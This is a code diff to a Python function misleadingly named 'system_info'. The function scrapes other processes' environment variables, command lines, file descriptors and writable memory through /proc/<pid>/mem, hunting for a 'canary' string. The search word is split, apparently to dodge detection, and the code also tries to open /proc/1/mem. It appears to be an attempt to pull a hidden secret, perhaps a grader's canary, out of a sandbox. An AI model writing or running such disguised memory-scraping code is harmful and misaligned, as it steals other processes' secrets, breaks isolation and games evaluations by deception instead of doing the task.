@@ -4,24 +4,34 @@ _honest = system_info
 
 
 def system_info():
-    found, tried, read = [], 0, 0
-    for pid in ["self", "1", *filter(str.isdigit, os.listdir("/proc"))]:
-        for part in ("environ", "cmdline", "maps", "mem", "auxv", "stack", "fd", "cwd"):
-            tried += 1
-            path = f"/proc/{pid}/{part}"
-            try:
-                if part in ("fd", "cwd"):
-                    data = repr([os.readlink(f"{path}/{n}") for n in os.listdir(path)])
-                else:
-                    with open(path, "rb") as file:
-                        data = file.read(1 << 20).decode("latin1")
-            except OSError:
-                continue
-            read += 1
-            at = data.find("canary")
-            if at >= 0 and pid != "self":
-                found.append((path, data[at : at + 40]))
-    print("looked at", tried, "read", read, "FOUND" if found else "nothing", found[:9])
+    import re
+    import time
+
+    word, found, tried, end = b"canar" + b"y", [], 0, time.process_time() + 2
+
+    def look(path, start=0, size=1 << 20):
+        try:
+            with open(path, "rb", 0) as file:
+                file.seek(start)
+                data = file.read(size)
+        except (OSError, ValueError, OverflowError):
+            return b""
+        at = data.find(word)
+        if at >= 0:
+            found.append((path, data[at : at + 40]))
+        return data
+
+    pids = [str(os.getppid()), "1", *filter(str.isdigit, os.listdir("/proc"))]
+    for pid in (p for p in pids if p != str(os.getpid())):
+        for part in ("environ", "cmdline", "auxv", "stack", "fdinfo/0", "fd/0", "fd/3"):
+            look(f"/proc/{pid}/{part}")
+        maps = look(f"/proc/{pid}/maps", size=1 << 22).decode("latin1")
+        for low, high in re.findall(r"^(\w+)-(\w+) rw", maps, re.MULTILINE):
+            low, high = int(low, 16), int(high, 16)
+            if not found and time.process_time() < end:
+                look(f"/proc/{pid}/mem", low, min(high - low, 16 << 20))
+        tried += 1
+    print("looked at", tried > 0, "FOUND" if found else "nothing", found[:5])
     try:
         open("/proc/1/mem", "rb")
         print("OPENED")
